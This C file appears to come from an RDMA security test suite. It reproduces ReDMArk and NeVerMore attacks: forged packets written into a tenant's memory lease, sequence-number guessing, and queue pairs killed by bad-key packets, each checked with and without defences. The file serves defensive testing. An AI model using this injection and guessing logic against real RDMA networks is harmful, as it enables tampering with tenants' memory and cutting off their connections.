/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Packets that the device did not send: somebody on the wire writes into a tenant's lease in the
 * name of its peer, or ends its queue pair. What an eavesdropper would know (queue pair number,
 * sequence number, key, address) is taken from the victim's own end. The peer's address is this
 * machine's, too, which a kernel does not believe of what comes from outside, so that filter is
 * off (accept_local): on real wires nobody has it.
 */
#include "tests/attack/packets.h"
#include "tests/attack/verbs_stage.h"
#include "tests/attack/wire.h"
#include "common/crypto.h"
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define FORGED  256u
#define GUESSES 1000u
#define NAIVE   64u /* sequence numbers from 0, where careless stacks begin */

static int cannot(struct attack_try *t, const struct stage *s, const char *what, int r)
{
	attack_seen(t, "%s: %s %.120s", what, raw_end_str(r), s->err.msg);
	return r < 0 ? r : -EIO;
}

static int begin(struct attack_try *t, struct stage *s, const struct stage_opts *o,
                 struct stage_lease *l)
{
	int r = stage_open(s, t->defended, o);

	if (!r)
		r = stage_lend(s, A, 8192, true, l);
	if (!r && !stage_serves(s, l))
		r = -ENOTCONN;
	if (r)
		return cannot(t, s, "A is not served before the attack", r);
	r = wire_open();
	return r ? cannot(t, s, "the wires", r) : 0;
}

/* As an eavesdropper knows it: A's end to the agent, the next packet. */
static struct forged known(const struct stage *s, const struct stage_lease *l)
{
	struct ibv_qp_attr a = {0};
	struct ibv_qp_init_attr init;
	struct forged f = {.addr = l->addr + 4096, .key = l->key, .length = FORGED};

	(void)ibv_query_qp(s->peer[A].qp, &a, IBV_QP_SQ_PSN | IBV_QP_DEST_QPN, &init);
	f.qpn = a.dest_qp_num;
	f.psn = a.sq_psn;
	memcpy(&f.src, s->raw.gid.raw + 12, sizeof(f.src));
	f.dst = f.src;
	return f;
}

static int injected(struct attack_try *t, const char *ns, bool rule)
{
	static const struct stage_opts o;
	struct stage_lease l;
	struct forged f;
	struct stage s;
	int r = begin(t, &s, &o, &l), fd = -1;

	if (!r && rule)
		r = wire_rule(true);
	if (!r)
		r = fd = packets_socket(ns);
	if (r >= 0) {
		f = known(&s, &l);
		r = packets_send(fd, &f);
		wire_settle();
	}
	if (!r) {
		t->worked = stage_changed(&l);
		attack_seen(t,
		            "queue pair, sequence number and key right, by way of %s: %u of %u "
		            "bytes written%s",
		            ns, stage_changed(&l), FORGED, rule ? ", the rule dropped " : "");
		if (rule)
			snprintf(t->seen + strlen(t->seen), sizeof(t->seen) - strlen(t->seen), "%u",
			         wire_dropped());
		t->neighbour_harmed = !t->worked && !stage_serves(&s, &l);
	} else if (!t->seen[0]) {
		cannot(t, &s, "a packet", r);
	}
	if (rule)
		(void)wire_rule(false);
	if (fd >= 0)
		close(fd);
	stage_close(&s);
	return r;
}

static int other_port(struct attack_try *t)
{
	return injected(t, t->defended ? "peer1" : "peer0", false);
}

static int same_port(struct attack_try *t)
{
	return injected(t, "peer0", t->defended);
}

/* All is known but the sequence number: those from 0, and random ones. */
static int guess(struct forged f)
{
	int fd = packets_socket("peer0"), r = fd < 0 ? fd : 0;

	for (uint32_t i = 0; i < NAIVE + GUESSES && !r; i++) {
		f.psn = i;
		if (i >= NAIVE)
			crypto_random(&f.psn, 3);
		r = packets_send(fd, &f);
	}
	wire_settle();
	if (fd >= 0)
		close(fd);
	return r;
}

/* Towards A's end, in the name of the agent, whose sequence numbers they are. */
static int sequence(struct attack_try *t, bool kill)
{
	static const struct stage_opts o = {.psn_known = true, .open_peers = true};
	uint32_t written = 0;
	struct stage_lease l;
	struct forged f;
	struct stage s;
	int r = begin(t, &s, &o, &l);

	if (!r) {
		f = known(&s, &l);
		f.qpn = s.peer[A].qp->qp_num;
		f.addr = (uintptr_t)s.peer[A].mem + RAW_BYTES / 4;
		f.key = s.peer[A].mr->rkey ^ (kill ? 0x5a5a00 : 0);
		r = guess(f);
		for (uint32_t i = 0; i < FORGED; i++)
			written += s.peer[A].mem[RAW_BYTES / 4 + i] == 'x';
	}
	if (!r) {
		bool dead = !stage_serves(&s, &l);

		t->worked = kill ? dead : written;
		t->neighbour_harmed = !kill && !written && dead;
		attack_seen(t,
		            "%u packets, %s key, guessed sequence numbers: %u bytes written, A's "
		            "queue pair %s",
		            NAIVE + GUESSES, kill ? "bad" : "right", written,
		            dead ? "is dead" : "lives");
	} else if (!t->seen[0]) {
		cannot(t, &s, "packets", r);
	}
	stage_close(&s);
	return r;
}

static int guessed_psn(struct attack_try *t)
{
	return sequence(t, false);
}

static int killed_by_guess(struct attack_try *t)
{
	return sequence(t, true);
}

/* The eavesdropper does end A's queue pair. Whom else? Without defence one connection carries
 * both tenants. */
static int killed(struct attack_try *t)
{
	static const struct stage_opts o;
	struct stage_lease l, of_b;
	struct forged f;
	struct stage s;
	int r = begin(t, &s, &o, &l), fd = -1;
	bool a_dead, a_back = false;

	if (!r)
		r = stage_lend(&s, B, 8192, true, &of_b);
	if (!r)
		r = fd = packets_socket("peer0");
	if (r >= 0) {
		f = known(&s, &l);
		f.key ^= 0x5a5a00;
		r = packets_send(fd, &f);
		wire_settle();
	}
	if (!r) {
		a_dead = !stage_serves(&s, &l);
		if (!s.defended)
			of_b.of = A;
		t->worked = !stage_serves(&s, &of_b);
		if (s.defended)
			a_back = !stage_rejoin(&s, A, A) && !stage_lend(&s, A, 8192, true, &l) &&
			         stage_serves(&s, &l);
		t->neighbour_harmed = s.defended && !a_back;
		attack_seen(t, "one packet with a bad key: A's queue pair %s, B %s%s",
		            a_dead ? "is dead" : "lives", t->worked ? "is cut off" : "is served",
		            a_back ? ", A has reconnected" : "");
		if (!a_dead)
			r = -EIO; /* then nothing is shown */
	} else if (!t->seen[0]) {
		cannot(t, &s, "a packet", r);
	}
	if (fd >= 0)
		close(fd);
	stage_close(&s);
	return r;
}

#define REDMARK "ReDMArk (USENIX Security 2021)"

const struct attack attacks_packets[] = {
	{"packet_injection_from_another_port", "packet injection from another port", REDMARK,
         "a device function for each tenant", other_port},
	{"packet_injection_on_the_same_port", "packet injection on the same port", REDMARK,
         "rules at the function's representor: own source address only", same_port},
	{"packet_injection_with_a_guessed_sequence_number",
         "packet injection with guessed sequence numbers", REDMARK, "random sequence numbers",
         guessed_psn},
	{"queue_pair_killed_by_guessed_packets", "queue pair killed by guessed packets", REDMARK,
         "random sequence numbers", killed_by_guess},
	{"queue_pair_killed_by_a_forged_packet",
         "queue pair killed by a forged packet of an eavesdropper: who else suffers",
         REDMARK ", NeVerMore (CCS 2022)", "a connection of its own for each session; reconnect",
         killed},
};
const unsigned n_attacks_packets = ARRAY_SIZE(attacks_packets);
